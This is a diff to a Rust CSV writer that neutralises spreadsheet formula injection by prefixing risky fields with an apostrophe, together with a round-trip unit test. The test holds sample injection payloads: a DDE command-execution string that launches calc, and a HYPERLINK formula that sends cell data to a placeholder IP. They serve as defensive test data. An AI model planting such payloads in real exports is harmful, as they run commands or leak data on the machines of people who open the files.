@@ -56,15 +56,30 @@ impl Drop for Beside {
     }
 }
 
-/// An id as a field, quoted where it must be.
+/// What a spreadsheet takes for the beginning of a formula, after OWASP's list: the full-width signs
+/// are folded to the plain ones by some.
+const FORMULA: [&str; 11] = [
+    "=", "+", "-", "@", "\t", "\r", "\n", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}",
+];
+
+/// Whether a spreadsheet would run the text, spaces in front of it aside; or whether it begins with
+/// the mark that stands before such a text, so that taking one mark away always gives what was.
+fn needs_mark(bytes: &[u8]) -> bool {
+    let spaces = bytes.iter().take_while(|b| **b == b' ').count();
+    let first = &bytes[spaces..];
+    let begins = |all: &[u8]| FORMULA.iter().any(|sign| all.starts_with(sign.as_bytes()));
+    bytes.starts_with(b"'") || begins(bytes) || begins(first)
+}
+
+/// An id as a field, quoted where it must be. One that a spreadsheet would run has a `'` in front:
+/// whoever reads the file takes one leading `'` away.
 fn id(out: &mut impl Write, bytes: &[u8], strip: usize) -> std::io::Result<()> {
     let bytes = bytes.get(strip..).unwrap_or_default();
-    if bytes
-        .iter()
-        .any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r'))
-    {
+    let mark = needs_mark(bytes);
+    let separates = |b: &u8| matches!(b, b',' | b';' | b'"' | b'\n' | b'\r' | b'\t');
+    if mark || bytes.iter().any(separates) {
         let text = String::from_utf8_lossy(bytes).replace('"', "\"\"");
-        write!(out, "\"{text}\"")
+        write!(out, "\"{}{text}\"", if mark { "'" } else { "" })
     } else {
         out.write_all(bytes)
     }
@@ -144,6 +159,50 @@ fn clusters(
 #[allow(clippy::unwrap_used, reason = "a test")]
 mod tests {
     use super::*;
+
+    /// A field as it stands in the file, and as whoever reads it gets it back.
+    fn written(text: &str) -> (String, String) {
+        let mut out = Vec::new();
+        id(&mut out, text.as_bytes(), 0).unwrap();
+        let field = String::from_utf8(out).unwrap();
+        let cell = match field.strip_prefix('"').and_then(|f| f.strip_suffix('"')) {
+            Some(quoted) => quoted.replace("\"\"", "\""),
+            None => field.clone(),
+        };
+        let back = cell.strip_prefix('\'').unwrap_or(&cell).to_owned();
+        (cell, back)
+    }
+
+    #[test]
+    fn nothing_that_leaves_is_a_formula_and_everything_can_be_had_back() {
+        let signs = [
+            "=", "+", "-", "@", "\t", "\r", "\n", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}",
+        ];
+        for sign in signs {
+            for text in [
+                format!("{sign}1+1"),
+                format!("{sign}cmd|' /C calc'!A0"),
+                format!("  {sign}HYPERLINK(\"http://192.0.2.1/?\"&A1)"),
+                sign.to_owned(),
+            ] {
+                let (cell, back) = written(&text);
+                assert!(cell.starts_with('\''), "{text:?} is a formula: {cell:?}");
+                assert_eq!(back, text);
+            }
+        }
+        for text in [
+            "1007", "a;=1", "O'Brien", "'quoted", "''twice", "a,b\"c", "x\ty", "",
+        ] {
+            assert_eq!(written(text).1, text, "{text:?}");
+        }
+        assert_eq!(written("1007").0, "1007", "plain ids stay plain");
+        let mut out = Vec::new();
+        id(&mut out, b"a;=1", 0).unwrap();
+        assert_eq!(
+            out, b"\"a;=1\"",
+            "one cell where a semicolon separates, too"
+        );
+    }
 
     #[test]
     fn numbers_are_written_as_they_are_anywhere() {
